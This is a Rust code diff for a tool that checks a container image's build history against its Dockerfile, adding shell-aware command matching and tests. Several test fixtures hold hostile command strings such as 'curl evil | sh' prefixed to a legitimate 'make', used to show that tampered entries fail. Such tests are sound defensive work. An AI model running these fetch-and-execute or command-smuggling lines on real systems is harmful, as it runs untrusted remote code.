@@ -29,15 +29,16 @@ fn run(evidence: &Evidence<'_>, policy: &Policy) -> Outcome {
         Err(outcome) => return outcome,
     };
     let Some(config) = &image.config else { return Outcome::unknown("the image's configuration cannot be read") };
+    let shell = config.settings.get("Shell").and_then(|shell| words_of(shell));
     let not_proved = match evidence.dockerfile(policy.expect.dockerfile.as_deref()) {
         Ok(instructions) => {
             let texts: Vec<&str> = instructions.iter().map(|instruction| instruction.text.as_str()).collect();
-            return compare(last_stage(&texts), &config.history, "the proved Dockerfile");
+            return compare(last_stage(&texts), &config.history, shell, "the proved Dockerfile");
         }
         Err(NoInstructions::NoFile(fault) | NoInstructions::NotRead(fault)) => fault,
     };
     match evidence.log().map(steps) {
-        Some(Ok(printed)) if !printed.is_empty() => compare(last_stage(&printed), &config.history, "the log")
+        Some(Ok(printed)) if !printed.is_empty() => compare(last_stage(&printed), &config.history, shell, "the log")
             .detail(format!("compared with the log only, not with a proved Dockerfile: {not_proved}")),
         Some(Err(message)) => Outcome::unknown(message),
         _ => {
@@ -53,7 +54,11 @@ fn last_stage<'i, 't>(instructions: &'i [&'t str]) -> &'i [&'t str] {
     instructions.get(last_from.map_or(0, |at| at + 1)..).unwrap_or_default()
 }
 
-fn compare(instructions: &[&str], history: &[History], witness: &str) -> Outcome {
+/// `shell` is the image's own at its end, where it has one.
+fn compare(instructions: &[&str], history: &[History], shell: Option<String>, witness: &str) -> Outcome {
+    let own = instructions.iter().filter(|instruction| keyword(instruction) == "SHELL");
+    let own = own.filter_map(|instruction| words_of(instruction.split_once(char::is_whitespace)?.1));
+    let shells: Vec<String> = ["/bin/sh -c".to_owned()].into_iter().chain(own).chain(shell).collect();
     let Some(inherited) = history.len().checked_sub(instructions.len()) else {
         return Outcome::fail(format!("the image's history is shorter than the last stage of {witness}"))
             .sides(format!("at least {} entries", instructions.len()), format!("{} entries", history.len()));
@@ -61,7 +66,7 @@ fn compare(instructions: &[&str], history: &[History], witness: &str) -> Outcome
     for (at, (instruction, entry)) in instructions.iter().zip(history.iter().skip(inherited)).enumerate() {
         let (found_keyword, found) = read(&entry.created_by);
         let expected = keyword(instruction);
-        let differs = expected != found_keyword || (expected == "RUN" && !same_command(instruction, &found));
+        let differs = expected != found_keyword || (expected == "RUN" && !same_command(instruction, &found, &shells));
         if differs {
             return Outcome::fail(format!("entry {} of the last stage of {witness} is another instruction", at + 1))
                 .sides(*instruction, &entry.created_by);
@@ -94,18 +99,27 @@ fn read(created_by: &str) -> (String, String) {
     ("RUN".into(), collapsed(text))
 }
 
-/// Is the entry's command the instruction's? A shell stands before it, and build arguments before that. The exec form (`RUN ["a"]`) is
-/// spelled otherwise and only its words are looked for.
-fn same_command(instruction: &str, found: &str) -> bool {
+/// Is the entry's command the instruction's? A shell stands before it, and build arguments before that; nothing else may: `evil && make`
+/// ends like `make`.
+fn same_command(instruction: &str, found: &str, shells: &[String]) -> bool {
     let text = instruction.split_once(char::is_whitespace).map_or("", |(_, rest)| rest).trim();
-    if text.starts_with('[') {
-        let words = text.split(['"', '[', ']', ',']).map(str::trim).filter(|word| !word.is_empty());
-        return words.into_iter().all(|word| found.contains(&collapsed(word)));
-    }
     // Flags (`--mount=…`) are the builder's and not in the command.
     let command: Vec<&str> = text.split_whitespace().skip_while(|word| word.starts_with("--")).collect();
     let command = command.join(" ");
-    found.strip_suffix(command.as_str()).is_some_and(|before| before.is_empty() || before.ends_with(' '))
+    let is_head = |head: &str| matches!(head, "" | "RUN") || head.starts_with('|');
+    if let Some(command) = words_of(&command) {
+        return found.strip_suffix(command.as_str()).is_some_and(|head| is_head(head.trim_end()));
+    }
+    shells.iter().any(|shell| {
+        let parts = found.split_once(shell.as_str());
+        parts.is_some_and(|(head, rest)| is_head(head.trim_end()) && rest.strip_prefix(' ') == Some(command.as_str()))
+    })
+}
+
+/// The words of the exec form, `["a", "b"]`, as histories have them: parted by blanks.
+fn words_of(text: &str) -> Option<String> {
+    let words: Vec<String> = serde_json::from_str(text).ok()?;
+    Some(collapsed(&words.join(" ")))
 }
 
 fn collapsed(text: &str) -> String {
@@ -132,8 +146,10 @@ mod tests {
             ("CMD [\"x\"]", "CMD [\"x\"]"),
             ("COPY a b", "/bin/sh -c #(nop) COPY file:0123 in b"),
             ("COPY a b", "COPY a b # buildkit"),
+            ("RUN make all", "/bin/bash -o pipefail -c make all"),
         ] {
-            let outcome = compare(&[instruction], &[self::entry("base"), self::entry(entry)], "x");
+            let shell = Some("/bin/bash -o pipefail -c".to_owned());
+            let outcome = compare(&[instruction], &[self::entry("base"), self::entry(entry)], shell, "x");
             assert_eq!(outcome.status, crate::finding::Status::Pass, "{instruction} {entry}: {outcome:?}");
         }
     }
@@ -146,9 +162,17 @@ mod tests {
             (&["RUN make", "CMD x"], &["/bin/sh -c #(nop)  CMD x", "/bin/sh -c make"]),
             (&["RUN make", "RUN test"], &["/bin/sh -c make"]),
             (&["COPY a b"], &["/bin/sh -c curl evil | sh"]),
+            (&["RUN make"], &["/bin/sh -c curl evil | sh && make"]),
+            (&["RUN make"], &["|1 A=b /bin/sh -c curl evil | sh && /bin/sh -c make"]),
+            (&["RUN [\"/bin/make\"]"], &["/bin/sh -c evil /bin/make"]),
+            (&["RUN make"], &["/bin/evil -c make"]),
         ] {
             let history: Vec<History> = history.iter().map(|text| entry(text)).collect();
-            assert_eq!(compare(instructions, &history, "x").status, crate::finding::Status::Fail, "{instructions:?}");
+            assert_eq!(
+                compare(instructions, &history, None, "x").status,
+                crate::finding::Status::Fail,
+                "{instructions:?}"
+            );
         }
     }
 }
